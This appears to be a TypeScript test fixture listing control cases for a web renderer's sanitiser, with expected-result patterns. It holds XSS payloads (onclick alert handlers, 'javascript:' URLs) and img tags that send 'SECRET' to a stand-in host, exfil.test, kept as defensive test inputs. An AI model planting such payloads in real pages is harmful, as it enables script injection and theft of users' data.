import type { DoorCase } from './doors.ts';

/**
 * What a page without guards must be caught at. `door` tells by which one it came; the request to another host shows that
 * the count of requests would have seen one.
 */
const handler = (door: string) => `a <b onclick="alert('ran ${door}')">b</b>`;
const SHOWN = [
  'name',
  'subtitle',
  'greeting',
  'prompt',
  'placeholder',
  'launcherLabel',
  'question',
  'sourceTitle',
  'sourceHeading',
  'sourceQuote',
] as const;
const ADDRESSES = ['sourceUrl', 'contact'] as const;

export const CONTROL: readonly DoorCase[] = [
  {
    id: 'control-doors',
    text: 'plain',
    doors: Object.fromEntries([
      ...SHOWN.map((door) => [door, handler(door)]),
      ...ADDRESSES.map((door) => [door, `javascript:alert('ran ${door}')`]),
      // Not over https, which is what the guard looks at.
      ['avatar', 'http://exfil.test/avatar'],
    ]),
  },
  { id: 'control-handler', text: handler('anywhere') },
  { id: 'control-form', text: '<form><input name=q></form>' },
  { id: 'control-near', text: '<img src="/never?d=SECRET">' },
  { id: 'control-far', text: '<img src="http://exfil.test/never?d=SECRET">' },
];

/** What must be among the lines. The answer's door is the renderer's, without its sanitiser. Codes and messages of errors, and the description, are not here: the panel never shows them. */
export const expectedRed: readonly RegExp[] = [
  ...SHOWN.map((door) => new RegExp(`^doors executed .*ran ${door}\\b`)),
  ...ADDRESSES.map((door) => new RegExp(`^doors .*="javascript:alert\\('ran ${door}'\\)"`)),
  /^answers executed .*ran anywhere/,
  /^answers control-form: <form>/,
  /^\/never\?d=SECRET$/,
  /^http:\/\/exfil\.test\/avatar$/,
  /^http:\/\/exfil\.test\/never\?d=SECRET$/,
];
